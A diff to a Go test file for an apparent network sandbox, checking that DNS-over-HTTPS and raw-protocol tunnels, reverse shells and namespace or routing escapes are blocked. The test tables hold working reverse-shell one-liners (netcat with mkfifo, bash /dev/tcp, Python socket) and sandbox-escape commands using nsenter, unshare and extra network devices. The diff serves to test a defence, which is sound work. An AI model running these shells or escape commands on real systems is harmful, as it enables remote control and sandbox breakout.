@@ -25,8 +25,8 @@ func (w *netWorld) attemptsByDNS(at aims) []attempt {
 		ask("another name server", "udp", 53, "ask", "udp", at.four+":53", tunnel, "TXT"),
 		ask("another name server over TCP", "tcp", 53, "ask", "tcp", at.four+":53", tunnel, "TXT"),
 		ask("another name server over TLS", "tcp", 853, "ask", "tcp-tls", at.four+":853", tunnel, "TXT"),
-		ask("DNS over HTTPS by address", "tcp", 443, "doh", "https://"+at.four+"/dns-query", at.evil),
-		{name: "DNS over HTTPS by name", argv: w.inside("doh", "https://"+at.evil+"/dns-query", tunnel), record: want{proto: "tcp", host: at.evil, port: 443, rule: "-"}},
+		ask("DNS over HTTPS by address", "tcp", 2004, "doh", "https://"+at.four+":2004/dns-query", at.evil),
+		{name: "DNS over HTTPS by name", argv: w.inside("doh", "https://"+at.evil+":2005/dns-query", tunnel), record: want{proto: "tcp", host: at.evil, port: 2005, rule: "-"}},
 		{name: "DNS over HTTPS on an allowed host's address", argv: w.inside("front", w.Server4+":443", at.evil, at.evil), record: want{proto: "tcp", addr: w.Server4, port: 443}, tame: true},
 		lookup,
 	}
@@ -46,23 +46,23 @@ func (w *netWorld) attemptsBelow(at aims) []attempt {
 	return []attempt{
 		raw("an ICMP tunnel", unix.IPPROTO_ICMP, at.four, "icmp"),
 		raw("an ICMPv6 tunnel", unix.IPPROTO_ICMPV6, at.six, "icmp"),
-		raw("GRE", unix.IPPROTO_GRE, at.four, ""),
-		raw("SCTP", unix.IPPROTO_SCTP, at.four, ""),
-		raw("IPv4 in IPv4", unix.IPPROTO_IPIP, at.four, ""),
-		raw("a protocol without a name", 253, at.four, ""),
-		raw("a protocol without a name by IPv6", 253, at.six, ""),
+		raw("GRE", unix.IPPROTO_GRE, at.four, "ip-47"),
+		raw("SCTP", unix.IPPROTO_SCTP, at.four, "ip-132"),
+		raw("IPv4 in IPv4", unix.IPPROTO_IPIP, at.four, "ip-4"),
+		raw("a protocol without a name", 253, at.four, "ip-253"),
+		raw("a protocol without a name by IPv6", 253, at.six, "ip-253"),
 		forged, frame,
 	}
 }
 
 // attemptsToCallHome are reverse shells.
 func (w *netWorld) attemptsToCallHome(at aims) []attempt {
-	to := want{proto: "tcp", addr: at.four, port: 4444, rule: "-"}
+	to := func(port int) want { return want{proto: "tcp", addr: at.four, port: port, rule: "-"} }
 	return []attempt{
-		{name: "a reverse shell by netcat", argv: sh(`d=$(mktemp -d); mkfifo $d/f; sh <$d/f 2>&1 | nc -w 5 $1 4444 >$d/f; nc -w 5 $1 4444 </dev/null`, at.four), record: to},
-		{name: "a reverse shell by bash", argv: []string{"bash", "-c", `exec 3<>/dev/tcp/$1/4444 || exit 1; sh <&3 >&3`, "bash", at.four}, record: to},
+		{name: "a reverse shell by netcat", argv: sh(`d=$(mktemp -d); mkfifo $d/f; sh <$d/f 2>&1 | nc -w 5 $1 4444 >$d/f; nc -w 5 $1 4444 </dev/null`, at.four), record: to(4444)},
+		{name: "a reverse shell by bash", argv: []string{"bash", "-c", `exec 3<>/dev/tcp/$1/4445 || exit 1; sh <&3 >&3`, "bash", at.four}, record: to(4445)},
 		{name: "a reverse shell by python", argv: []string{"/usr/bin/python3", "-c", `import socket,subprocess,sys
-s = socket.socket(); s.connect((sys.argv[1], 4444)); subprocess.call(["sh"], stdin=s, stdout=s)`, at.four}, record: to},
+s = socket.socket(); s.connect((sys.argv[1], 4446)); subprocess.call(["sh"], stdin=s, stdout=s)`, at.four}, record: to(4446)},
 	}
 }
 
@@ -128,4 +128,30 @@ func (w *netWorld) listens(network, address string) {
 			c.Close()
 		}
 	}()
+}
+
+// TestPromise8NoOtherWay: the box's device is the only one, whatever somebody
+// with all rights in the box does to it: addresses, routes, namespaces.
+func TestPromise8NoOtherWay(t *testing.T) {
+	t.Parallel()
+	w := newNetWorld(t)
+	box := w.makeBox("prisoner", "--allow", w.name("web"))
+	if out := w.works(box, w.inside("devices")...); !strings.HasPrefix(out, "ok fb0 lo ") && !strings.HasPrefix(out, "ok lo fb0 ") {
+		t.Errorf("its devices are %s", out)
+	}
+	for name, script := range map[string]string{
+		"another address":     `ip addr add 192.0.2.10/32 dev fb0 && curl -sS --max-time 9 --interface 192.0.2.10 http://$1:81/`,
+		"another route":       `ip route replace $1/32 via 192.0.2.1 dev fb0 onlink && curl -sS --max-time 9 http://$1:82/`,
+		"another namespace":   `unshare -Urn sh -c "ip link set lo up; curl -sS --max-time 9 http://$1:83/"`,
+		"the host's":          `nsenter --net=/proc/1/ns/net curl -sS --max-time 9 http://$1:84/`,
+		"a device of its own": `ip link add fbx type veth peer name fby && ip addr add 192.0.2.10/24 dev fbx && ip link set fbx up && ip route replace $1/32 via 192.0.2.1 dev fbx && curl -sS --max-time 2 http://$1:85/`,
+		"a copy of a device":  `ip link add link fb0 name fbm type macvlan && ip link set fbm up && curl -sS --max-time 9 --interface fbm http://$1:86/`,
+		"a proxy at the gate": `curl -sS --max-time 9 --proxy socks5://198.18.0.1:1080 http://$1:87/`,
+	} {
+		t.Run(name, func(t *testing.T) {
+			w := w.as(t)
+			w.failsIn(box, sh(script, w.Canary4)...)
+			w.silent(w.Canary4)
+		})
+	}
 }
